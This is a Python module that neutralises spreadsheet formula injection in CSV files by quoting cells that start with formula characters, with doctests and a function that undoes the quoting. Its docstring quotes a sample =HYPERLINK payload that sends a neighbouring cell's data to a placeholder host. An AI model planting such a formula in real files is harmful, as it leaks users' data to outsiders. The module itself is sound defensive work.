"""Text cells of CSV files that spreadsheets would run as formulas.

Excel and LibreOffice read a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or
carriage return before one) as a formula: a file name ``=HYPERLINK("http://evil.invalid?"&B2)``
from a received dataset becomes a link that sends the next cell away, and a case id ``-x__1``
becomes ``#NAME?`` — saved back so, it no longer names its case. CSV files curator writes *for
people* (the review worklist) prefix such a cell with ``'``, which spreadsheets show as text
(OWASP's advice), and curator strips that quote when it reads the file back. Numbers —
values of a numeric column, and text that is a plain decimal literal (``-3.5``, ``+1``,
``-2e-3``) — are left as they are; text Python's ``float()`` takes but a spreadsheet does not
(``-inf``, ``-nan``, ``+Infinity``, ``-1_0``, a tab before a digit) is text, quoted; so is a
negative infinity of a numeric column, which a spreadsheet would show as ``#NAME?``. CSV
written as *data* (``curator query -f csv`` and ``-o x.csv``) keeps every value exact unless
asked (``--spreadsheet``): a data pipeline reads back what the table holds.

>>> [formula_safe(v) for v in ("=1+1", "@SUM(A1)", "-x__1", "-3.5", "+1e3", "liver", 7, -2.5, "")]
["'=1+1", "'@SUM(A1)", "'-x__1", '-3.5', '+1e3', 'liver', 7, -2.5, '']
>>> [formula_safe(v) for v in ("-inf", "-nan", "-1_0", "+Infinity", "\\t3", float("-inf"))]
["'-inf", "'-nan", "'-1_0", "'+Infinity", "'\\t3", "'-inf"]
>>> unquote(formula_safe("-x__1")), unquote("'quoted on purpose")
('-x__1', "'quoted on purpose")
"""

from __future__ import annotations

import math
import re
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# a number as spreadsheets read one: a sign, digits with at most one point, an exponent — not
# what else Python's float() takes (inf, nan, 1_000, surrounding whitespace)
DECIMAL = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?\Z")


def formula_safe(value: Any) -> Any:
    """``value`` as a CSV cell a spreadsheet shows as text: a string that starts like a formula
    (and is no plain decimal number) gets a leading ``'``, as does a negative infinity (written
    ``-inf``); anything else is returned unchanged."""
    if isinstance(value, float) and math.isinf(value) and value < 0:
        return "'-inf"
    if isinstance(value, str) and value.startswith(FORMULA_START) and not DECIMAL.match(value):
        return "'" + value
    return value


def unquote(text: str) -> str:
    """A cell :func:`formula_safe` wrote, as it was (a spreadsheet may keep the ``'`` on save)."""
    return text[1:] if text.startswith("'") and text[1:].startswith(FORMULA_START) else text
